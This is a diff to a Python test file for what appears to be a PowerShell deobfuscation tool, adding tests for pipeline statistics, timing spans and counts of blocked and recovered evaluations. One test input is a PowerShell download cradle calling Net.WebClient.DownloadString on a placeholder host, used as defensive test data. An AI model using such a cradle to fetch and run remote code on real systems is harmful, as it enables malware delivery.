@@ -38,10 +38,41 @@ class TestEndToEnd:
         assert result.script == "'unterminated"
 
     def test_result_metadata(self):
+        from repro.obs import PipelineStats
+
         result = deobfuscate("iex ('a'+'b')")
         assert result.iterations >= 1
         assert result.elapsed_seconds >= 0
-        assert isinstance(result.stats, dict)
+        assert isinstance(result.stats, PipelineStats)
+        # One-release dict-compat shim: legacy key access keeps working.
+        assert result.stats["pieces_recovered"] >= 1
+        assert result.stats.get("variables_traced", 0) == 0
+        assert "pieces_recovered" in result.stats
+
+    def test_phase_spans_recorded(self):
+        result = deobfuscate("iex ('a'+'b')")
+        assert result.stats.spans, "spans should be on by default"
+        assert set(result.stats.phase_seconds) >= {
+            "token", "ast", "multilayer", "rename", "reformat",
+        }
+        assert all(s.seconds >= 0 for s in result.stats.spans)
+
+    def test_collect_spans_off_keeps_counters(self):
+        tool = Deobfuscator(collect_spans=False)
+        result = tool.deobfuscate("iex ('a'+'b')")
+        assert result.stats.spans == []
+        assert result.stats.phase_seconds == {}
+        assert result.stats.pieces_recovered >= 1
+
+    def test_recovery_outcomes_counted(self):
+        result = deobfuscate(
+            "$x = 'a'+'b'\n"
+            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
+        )
+        outcomes = result.stats.recovery_outcomes
+        assert outcomes["recovered"] >= 1
+        assert outcomes["blocked"] >= 1
+        assert result.stats.evaluator_steps > 0
 
     def test_layers_recorded(self):
         result = deobfuscate("iex 'iex ''write-host x'''")
